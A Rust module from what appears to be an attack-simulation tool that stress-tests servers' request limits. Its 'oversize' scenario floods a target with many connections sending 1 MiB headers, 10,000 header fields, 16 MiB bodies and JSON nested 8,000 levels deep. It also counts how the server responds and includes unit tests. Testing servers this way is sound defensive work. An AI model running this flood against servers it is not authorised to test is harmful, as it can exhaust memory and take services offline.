//! `oversize`: requests built to be too big, from many addresses, each on its own connection
//! and sent as fast as the server takes them, in four kinds (worker `i` sends kind `i % 4`):
//! - a 1 MiB header value,
//! - 10,000 header fields,
//! - a 16 MiB JSON body (announced with Content-Length, streamed),
//! - a JSON body nested 8,000 levels deep, small enough for any body limit.
//!
//! A server without head and body limits buffers each in full (and may parse the deep one
//! recursively); one with limits refuses each after a few KiB (431, 413, 400) and closes. The
//! bodies go to the registration route, which every API of this kind has and which must read
//! its body.

use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use tokio::io::AsyncWriteExt;

use super::{AttackCounters, AttackCtx, workers};
use crate::client;
use crate::scenarios::{Load, Run, Scenario};

/// The path the bodies are posted to.
pub const BODY_PATH: &str = "/v1/users";

/// The size of the one huge header value.
pub const HEADER_VALUE_BYTES: usize = 1 << 20;

/// How many header fields the many-headers request has.
pub const HEADER_FIELDS: usize = 10_000;

/// The huge body's announced (and sent) size.
pub const BODY_BYTES: usize = 16 << 20;

/// The deep body's nesting.
pub const DEPTH: usize = 8_000;

/// Bytes per write.
const PIECE: usize = 16 * 1024;

/// How long a response to an oversized request is waited for once it is sent.
const ANSWER_TIMEOUT: Duration = Duration::from_secs(2);

/// The registry entry.
pub const SCENARIO: Scenario = Scenario {
    name: "oversize",
    kind: "dos",
    description: "1 MiB header, 10,000 headers, 16 MiB body, JSON nested 8,000 deep",
    run: Run::Dos(|ctx, counters| Box::pin(attack(ctx, counters))),
    load: Load::FloodConnections,
};

/// The four kinds of oversized request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// One header whose value is [`HEADER_VALUE_BYTES`].
    HugeHeader,
    /// [`HEADER_FIELDS`] header fields.
    ManyHeaders,
    /// A [`BODY_BYTES`] body.
    HugeBody,
    /// A body nested [`DEPTH`] levels deep.
    DeepJson,
}

impl Kind {
    /// Worker `i`'s kind.
    pub fn of_worker(i: usize) -> Kind {
        [
            Kind::HugeHeader,
            Kind::ManyHeaders,
            Kind::HugeBody,
            Kind::DeepJson,
        ][i % 4]
    }

    /// The request, as the pieces it is written in.
    pub fn pieces(self, host: &str) -> impl Iterator<Item = Vec<u8>> {
        let (head, body_len, filler): (String, usize, u8) = match self {
            Kind::HugeHeader => (
                format!(
                    "GET /healthz HTTP/1.1\r\nHost: {host}\r\nUser-Agent: attack-sim oversize\r\nX-Attack-Sim: "
                ),
                HEADER_VALUE_BYTES,
                b'a',
            ),
            Kind::ManyHeaders => {
                let mut h = format!(
                    "GET /healthz HTTP/1.1\r\nHost: {host}\r\nUser-Agent: attack-sim oversize\r\n"
                );
                for n in 0..HEADER_FIELDS {
                    h += &format!("X-Attack-Sim-{n}: {n}\r\n");
                }
                h += "\r\n";
                (h, 0, 0)
            }
            Kind::HugeBody => (post_head(host, BODY_BYTES), BODY_BYTES, b' '),
            Kind::DeepJson => (post_head(host, 2 * DEPTH), 0, 0),
        };
        let tail: Vec<u8> = match self {
            Kind::HugeHeader => b"\r\n\r\n".to_vec(),
            Kind::DeepJson => [vec![b'['; DEPTH], vec![b']'; DEPTH]].concat(),
            Kind::ManyHeaders | Kind::HugeBody => Vec::new(),
        };
        let fill = (0..body_len.div_ceil(PIECE))
            .map(move |k| vec![filler; PIECE.min(body_len - k * PIECE)]);
        std::iter::once(head.into_bytes())
            .chain(fill)
            .chain(std::iter::once(tail).filter(|t| !t.is_empty()))
    }
}

/// The head of a JSON POST to [`BODY_PATH`] announcing `len` bytes.
fn post_head(host: &str, len: usize) -> String {
    format!(
        "POST {BODY_PATH} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: attack-sim oversize\r\n\
         Content-Type: application/json\r\nContent-Length: {len}\r\n\r\n"
    )
}

async fn attack(ctx: AttackCtx, counters: Arc<AttackCounters>) {
    let count = ctx.preset.flood_connections;
    workers::run(ctx, counters, count, |ctx, counters, i| async move {
        worker(&ctx, i, &counters).await
    })
    .await;
}

async fn worker(ctx: &AttackCtx, i: usize, counters: &AttackCounters) {
    let src = ctx.sources.pick(i);
    let kind = Kind::of_worker(i);
    loop {
        let Some(mut tls) =
            workers::attempt(counters, async { ctx.client.tls_from(src).await.ok() }).await
        else {
            continue;
        };
        counters.opened();
        counters.sent(1);
        let mut whole = true;
        for piece in kind.pieces(ctx.client.host()) {
            if tls.write_all(&piece).await.is_err() {
                whole = false;
                break;
            }
        }
        // The server may have answered (and closed) before the request was all sent.
        let answer = tokio::time::timeout(ANSWER_TIMEOUT, client::read_response(&mut tls)).await;
        match answer {
            Ok(Ok(status)) => counters.answered(status),
            _ if !whole => {
                counters.cut.fetch_add(1, Ordering::Relaxed);
            }
            _ => {}
        }
        counters.closed();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn whole(kind: Kind) -> Vec<u8> {
        kind.pieces("localhost").flatten().collect()
    }

    #[test]
    fn each_kind_is_a_complete_request_of_its_size() {
        let h = whole(Kind::HugeHeader);
        assert!(h.starts_with(b"GET /healthz HTTP/1.1\r\n") && h.ends_with(b"\r\n\r\n"));
        assert!(h.len() > HEADER_VALUE_BYTES && h.len() < HEADER_VALUE_BYTES + 200);
        let m = whole(Kind::ManyHeaders);
        let fields = m.windows(2).filter(|w| w == b"\r\n").count();
        assert_eq!(
            fields,
            HEADER_FIELDS + 4,
            "request line, 2 fields + 10,000, blank line"
        );
        for (kind, len) in [(Kind::HugeBody, BODY_BYTES), (Kind::DeepJson, 2 * DEPTH)] {
            let r = whole(kind);
            let head_end = r.windows(4).position(|w| w == b"\r\n\r\n").expect("head") + 4;
            let head = String::from_utf8_lossy(&r[..head_end]).to_string();
            assert!(
                head.contains(&format!("Content-Length: {len}\r\n")),
                "{head}"
            );
            assert_eq!(r.len() - head_end, len, "{kind:?}");
        }
        let d = whole(Kind::DeepJson);
        assert!(d.ends_with(&[b']'; DEPTH]));
    }

    #[test]
    fn workers_take_the_kinds_in_turn() {
        let kinds: Vec<_> = (0..8).map(Kind::of_worker).collect();
        assert_eq!(&kinds[..4], &kinds[4..]);
        assert_eq!(kinds[2], Kind::HugeBody);
    }

    #[test]
    fn the_huge_body_is_written_in_bounded_pieces() {
        assert!(
            Kind::HugeBody
                .pieces("h")
                .all(|p| p.len() <= PIECE.max(512))
        );
    }
}
